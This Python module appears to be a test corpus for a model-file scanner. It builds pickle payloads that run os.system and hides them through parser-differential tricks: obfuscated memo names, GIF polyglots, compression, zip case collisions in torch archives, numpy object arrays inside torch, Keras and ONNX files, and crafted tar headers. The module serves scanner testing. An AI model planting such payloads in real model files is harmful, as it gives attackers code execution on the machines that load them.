"""Vectors by which readers of one format differ: what one takes that another refuses, and whose bytes a third one runs."""

import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib

from attack import COMMAND, PYTHON, Table

ATTACKS = Table()
DATA = ATTACKS.data
NEVER_CLEAN = ("code", "malicious", "unreadable")
CALL = b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."
# The same by names out of the memo, which nobody finds who looks for them.
HIDDEN = b"Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93(S'" + COMMAND.encode() + b"'\ntR."
LIST = b"(I1\nlI0\nI5\ns0"  # an item of a list is replaced, which Python's own pickle allows

# --- programs that Python's readers go on with ------------------------------------------------------------------------------------------
LAX = {
    "list_item": (LIST, "pickle"),
    "list_item_from_end": (b"(I1\nlI-1\nI5\ns0", "pickle"),
    "state_of_none": (b"N(N(dtb0", "pickle"),
    "memo_beyond": (b"Np9223372036854775808\n0", "joblib"),
    "float_underscore": (b"F1_0\n0", "joblib"),
    "float_blank": (b"F 1\n0", "joblib"),
    "float_beyond": (b"F1e999\n0", "joblib"),
    "state_of_nothing": (b"NI0\nb0", "joblib"),
}
for name, (prefix, loader) in LAX.items():
    DATA(f"content-mismatch/lax_{name}", prefix + CALL, "model.pkl", NEVER_CLEAN, fire=loader)
    DATA(f"content-mismatch/lax_{name}_hidden", prefix + HIDDEN, "model.txt", NEVER_CLEAN, fire=loader)
DATA("content-mismatch/lax_arguments_list", CALL[:-3] + b"lR.", "model.pkl", NEVER_CLEAN, fire="joblib")
DATA("content-mismatch/lax_arguments_dict", CALL[:-3] + b"I1\ndR.", "model.pkl", NEVER_CLEAN, fire="joblib")
FRAMES = b"GIF89aXYZ0\x95" + struct.pack("<Q", 60) + b"\x95" + struct.pack("<Q", 40) + CALL + b"." * 40 + b";"
DATA("frame/within_a_picture", FRAMES, "picture.gif", NEVER_CLEAN, fire="pickle")
DATA("content-mismatch/lax_in_latin", LIST + b"V\xe4\n0" + HIDDEN, "notes.txt", NEVER_CLEAN, fire="pickle")
for name, pack in {"gz": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress, "z": zlib.compress}.items():
    DATA(f"compression/lax_{name}", pack(LIST + HIDDEN), f"model.pkl.{name}", NEVER_CLEAN, fire="joblib")

def stored(data):
    """A zlib stream of blocks that are stored, and text to its end where the data are: lengths and the checksum of what is UTF-8."""
    packer = zlib.compressobj(0)
    return packer.compress(data) + packer.flush()


DATA("compression/behind_a_megabyte", lambda: stored(b"N0" * (1 << 20) + CALL), "model.pkl", NEVER_CLEAN, fire="joblib")

# --- what is too much for one reader ----------------------------------------------------------------------------------------------------
LONG = (b"\x8b" + struct.pack("<i", 1500) + b"\x01" * 1500 + b"0", b"L" + b"1" * 1500 + b"\n0")
for number, large in enumerate(LONG):
    DATA(f"content-mismatch/large_in_a_picture_{number}", b"GIF89aXYZ0" + large + HIDDEN + b";", "picture.gif", NEVER_CLEAN, fire="pickle")
DATA("content-mismatch/large_in_latin", b"NV\xe4\n0" + b"0" + LONG[1] + HIDDEN, "notes.txt", NEVER_CLEAN, fire="pickle")


# --- archives ---------------------------------------------------------------------------------------------------------------------------
def array():
    import numpy

    class Evil:
        def __reduce__(self):
            import os

            return os.system, (COMMAND,)

    target = io.BytesIO()
    numpy.save(target, numpy.array([Evil()], dtype=object))
    return target.getvalue()


def rewritten(data, change):
    """An archive with other members: `change(name, data)` gives each, and more of them for no name."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(target, "w") as new:
        for info in old.infolist():
            new.writestr(info.filename, change(info.filename, old.read(info)) or b"")
        for name, more in (change("", b"") or {}).items():
            new.writestr(name, more)
    return target.getvalue()


def saved(tensor=None):
    import torch

    target = io.BytesIO()
    torch.save({"w": torch.ones(2) if tensor is None else tensor}, target)
    return target.getvalue()


def exported():
    import torch

    target = io.BytesIO()
    torch.export.save(torch.export.export(torch.nn.Linear(1, 1), (torch.ones(1, 1),)), target)
    return target.getvalue()


def root_of(data):
    return zipfile.ZipFile(io.BytesIO(data)).namelist()[0].split("/")[0]


def with_member(data, name, more):
    return rewritten(data, lambda old, kept: kept if old else {f"{root_of(data)}/{name}": more})


DATA("zip-differential/case_twice", lambda: with_member(saved(), "DATA.PKL", LIST + HIDDEN), "model.pt", NEVER_CLEAN, fire="torch")
DATA("zip-differential/case_plain", lambda: with_member(saved(), "Data.pkl", CALL), "model.pt", NEVER_CLEAN, fire="torch")
for record in (".data/serialization_id", ".format_version", ".storage_alignment"):
    DATA(f"nested-loader/array_as_{record.split('/')[-1].strip('.')}", lambda record=record: rewritten(saved(), lambda name, kept: array() if name.endswith(record) else kept), "model.pt", NEVER_CLEAN, fire="numpy_members")


@ATTACKS.made("nested-loader/array_as_a_storage", NEVER_CLEAN, fire="numpy_members")
def _(folder):
    import torch

    data = array()
    path = folder / "model.pt"
    path.write_bytes(saved(torch.frombuffer(bytearray(data + bytes(-len(data) % 8)), dtype=torch.float32).clone()))
    return path


DATA("nested-loader/array_in_an_export", lambda: with_member(exported(), "models/evil.npy", array()), "model.pt2", NEVER_CLEAN, fire="numpy_members")


@ATTACKS.made("nested-loader/array_as_keras_metadata", NEVER_CLEAN, fire="numpy_members")
def _(folder):
    import os

    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import keras

    path = folder / "model.keras"
    keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)]).save(path)
    path.write_bytes(rewritten(path.read_bytes(), lambda name, kept: array() if name == "metadata.json" else kept))
    return path


def raw_joblib():
    """A pickle whose raw array, which joblib passes over, is opcodes to everyone else."""
    text = lambda said: b"X" + struct.pack("<I", len(said)) + said.encode()  # noqa: E731
    raw = b"0" + CALL
    dtype = b"cnumpy\ndtype\n" + text("u1") + b"\x89\x88\x87R(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    wrapper = b"\x80\x03cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}(" + text("subclass") + b"cnumpy\nndarray\n" + text("shape") + b"K" + bytes([len(raw)]) + b"\x85"
    return wrapper + text("order") + text("C") + text("dtype") + dtype + text("allow_mmap") + b"\x89ub" + raw + b"."


DATA("nested-loader/raw_array", raw_joblib, "model.joblib", fire="pickle")
DATA("nested-loader/raw_array_gz", lambda: gzip.compress(raw_joblib()), "model.pkl.gz", fire="gzip")


def header(name, kind, size):
    block = bytearray(b" " * 512)
    block[:100] = name.ljust(100, b"/")
    block[100:108], block[108:116], block[116:124] = b"0000644 ", b"0000000 ", b"0000000 "
    block[124:136], block[136:148], block[156:157] = b"%011o " % size, b"%011o " % 0, kind
    block[148:156] = b"%-8s" % (b"0o%o" % sum(block))
    return bytes(block)


RECORDS = b"17 path=storages\n" + b"495 comment=" + b"x" * 482 + b"\n"
TAR = header(b"Readme", b"x", 512) + RECORDS + header(b"a", b"0", len(CALL)) + CALL + b"\n" * (-len(CALL) % 512)
DATA("compression/tar_of_text", TAR, "x.bin", NEVER_CLEAN, fire="torch")


# --- files beside ------------------------------------------------------------------------------------------------------------------------
@ATTACKS.made("content-mismatch/text_that_imports", NEVER_CLEAN)
def _(folder):
    root = folder / "model"
    root.mkdir()
    (root / "notes.txt").write_text("cmymod\nx\n0This is a note.\n")
    (root / "mymod.py").write_text(PYTHON)
    return root


DATA("content-mismatch/name_with_a_blank", b"cmy mod\ngo\n(tR.", "model.pkl", NEVER_CLEAN)


@ATTACKS.made("nested-config/onnx_external_pickle", NEVER_CLEAN)
def _(folder):
    import onnx
    from onnx import TensorProto, helper

    weights = helper.make_tensor("w", TensorProto.FLOAT, [100], bytes(400), raw=True)
    onnx.external_data_helper.set_external_data(weights, "weights.bin", 0, 400)
    weights.ClearField("raw_data")
    x, y = (helper.make_tensor_value_info(one, TensorProto.FLOAT, [100]) for one in "xy")
    root = folder / "model"
    root.mkdir()
    model = helper.make_model(helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", [x], [y], [weights]))
    (root / "m.onnx").write_bytes(model.SerializeToString())
    (root / "weights.bin").write_bytes((b"\x80\x02" + LIST + HIDDEN).ljust(400, b"."))
    return root
